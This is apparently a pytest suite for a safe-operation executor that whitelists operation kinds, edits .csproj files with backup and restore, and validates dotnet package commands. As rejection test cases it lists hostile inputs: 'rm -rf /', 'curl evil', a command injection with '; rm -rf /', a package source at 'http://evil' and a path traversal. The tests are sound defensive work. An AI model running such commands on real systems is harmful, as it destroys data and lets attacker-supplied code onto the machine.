"""
Safe Operation Executor Tests
=============================
Whitelist enforcement, config edits with backup/restore, package commands.
"""
import os
import pytest
from unittest.mock import MagicMock, patch

from secfix.agents.safe_operation_executor import SafeOperationError, SafeOperationExecutor
from secfix.executor.command_runner import CommandResult
from secfix.models.plan import SafeOperation, SafeOperationKind

CSPROJ = """<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <ImplicitUsings>disable</ImplicitUsings>
  </PropertyGroup>
</Project>
"""


@pytest.fixture
def repo(tmp_path):
    (tmp_path / "App.csproj").write_text(CSPROJ, encoding="utf-8")
    return tmp_path


@pytest.fixture
def runner():
    r = MagicMock()
    r.run.return_value = CommandResult(exit_code=0, stdout="ok")
    return r


@pytest.fixture
def executor(repo, runner):
    return SafeOperationExecutor(str(repo), runner)


def _edit(prop="ImplicitUsings", value="enable", target="App.csproj"):
    return SafeOperation(
        kind=SafeOperationKind.CONFIG_EDIT,
        target_file=target,
        property_name=prop,
        value=value,
        rationale=f"Set {prop}",
    )


# ---------------------------------------------------------------------------
# Whitelist
# ---------------------------------------------------------------------------
def test_disallowed_kind_is_skipped_and_nothing_runs(executor, runner, repo):
    op = SafeOperation.model_construct(kind="shell", command="rm -rf /", rationale="nope")
    summary = executor.execute([op])

    assert summary.startswith("✗ Skipped (kind not allowed)")
    runner.run.assert_not_called()
    assert (repo / "App.csproj").read_text(encoding="utf-8") == CSPROJ


def test_validated_model_rejects_unknown_kind():
    with pytest.raises(ValueError):
        SafeOperation(kind="shell-exec", command="curl evil")


def test_legacy_kind_spelling_is_normalized():
    op = SafeOperation.model_validate({"action": "csproj-edit", "file": "App.csproj"})
    assert op.kind is SafeOperationKind.CONFIG_EDIT
    assert op.target_file == "App.csproj"


# ---------------------------------------------------------------------------
# Package commands
# ---------------------------------------------------------------------------
def test_package_add_runs_without_shell(executor, runner):
    op = SafeOperation(
        kind=SafeOperationKind.PACKAGE_ADD,
        command="dotnet add App.csproj package Newtonsoft.Json --version 13.0.1",
    )
    summary = executor.execute([op])

    assert summary == f"✓ {op.command}"
    args = runner.run.call_args.args
    assert args[1] == "dotnet"
    assert args[2] == ["add", "App.csproj", "package", "Newtonsoft.Json", "--version", "13.0.1"]


@pytest.mark.parametrize("command", [
    "dotnet add package Foo; rm -rf /",
    "dotnet add package Foo --source http://evil",
    "dotnet nuget push foo.nupkg",
    "bash -c 'dotnet add package Foo'",
    "dotnet remove package Foo --version 1.0.0",
    "dotnet add ../../other.csproj package Foo",
])
def test_package_command_rejects_unsafe_forms(executor, command):
    kind = SafeOperationKind.PACKAGE_REMOVE if " remove " in command else SafeOperationKind.PACKAGE_ADD
    with pytest.raises(SafeOperationError):
        executor.validate_package_command(SafeOperation(kind=kind, command=command))


def test_failing_command_is_reported_and_siblings_still_run(executor, runner, repo):
    runner.run.return_value = CommandResult(exit_code=1, stderr="NU1101: Unable to find package")
    ops = [
        SafeOperation(kind=SafeOperationKind.PACKAGE_ADD, command="dotnet add package Missing"),
        _edit(),
    ]
    summary = executor.execute(ops).splitlines()

    assert summary[0].startswith("✗ Failed:")
    assert summary[1] == "✓ Set ImplicitUsings"
    assert "<ImplicitUsings>enable</ImplicitUsings>" in (repo / "App.csproj").read_text(encoding="utf-8")


# ---------------------------------------------------------------------------
# Config edits
# ---------------------------------------------------------------------------
def test_config_edit_sets_property_and_keeps_backup(executor, repo):
    executor.apply_config_edit(_edit())

    text = (repo / "App.csproj").read_text(encoding="utf-8")
    assert "<ImplicitUsings>enable</ImplicitUsings>" in text
    assert "<TargetFramework>net8.0</TargetFramework>" in text
    assert executor.pending_backups == [str(repo / "App.csproj") + ".bak"]


def test_config_edit_adds_missing_property(executor, repo):
    executor.apply_config_edit(_edit(prop="Nullable", value="enable"))
    assert "<Nullable>enable</Nullable>" in (repo / "App.csproj").read_text(encoding="utf-8")


def test_failed_edit_leaves_file_byte_identical(executor, repo):
    before = (repo / "App.csproj").read_bytes()

    def partial_write(tree, path, xml_declaration):
        with open(path, "w", encoding="utf-8") as f:
            f.write("<Project><Prop")
        raise OSError("disk full")

    with patch("secfix.agents.safe_operation_executor._write_manifest", side_effect=partial_write):
        summary = executor.execute([_edit()])

    assert summary.startswith("✗ Failed:")
    assert (repo / "App.csproj").read_bytes() == before
    assert executor.pending_backups == []


def test_malformed_manifest_is_restored(executor, repo):
    broken = "<Project><PropertyGroup>"
    (repo / "App.csproj").write_text(broken, encoding="utf-8")
    with pytest.raises(SafeOperationError):
        executor.apply_config_edit(_edit())
    assert (repo / "App.csproj").read_text(encoding="utf-8") == broken
    assert not os.path.exists(str(repo / "App.csproj") + ".bak")


def test_config_edit_refuses_paths_outside_working_copy(executor):
    with pytest.raises(SafeOperationError):
        executor.apply_config_edit(_edit(target="../outside.csproj"))


def test_config_edit_refuses_non_manifest(executor, repo):
    (repo / "Program.cs").write_text("class P {}", encoding="utf-8")
    with pytest.raises(SafeOperationError):
        executor.apply_config_edit(_edit(target="Program.cs"))


def test_cleanup_backups_removes_files(executor, repo):
    executor.apply_config_edit(_edit())
    executor.cleanup_backups()
    assert executor.pending_backups == []
    assert not os.path.exists(str(repo / "App.csproj") + ".bak")


def test_second_edit_keeps_original_backup(executor, repo):
    original = (repo / "App.csproj").read_text(encoding="utf-8")
    executor.apply_config_edit(_edit())
    executor.apply_config_edit(_edit(prop="Nullable", value="enable"))
    assert (repo / "App.csproj.bak").read_text(encoding="utf-8") == original


def test_start_run_forgets_backups_without_deleting(executor, repo):
    executor.apply_config_edit(_edit())
    executor.start_run()
    executor.cleanup_backups()
    assert executor.pending_backups == []
    assert os.path.exists(str(repo / "App.csproj") + ".bak")
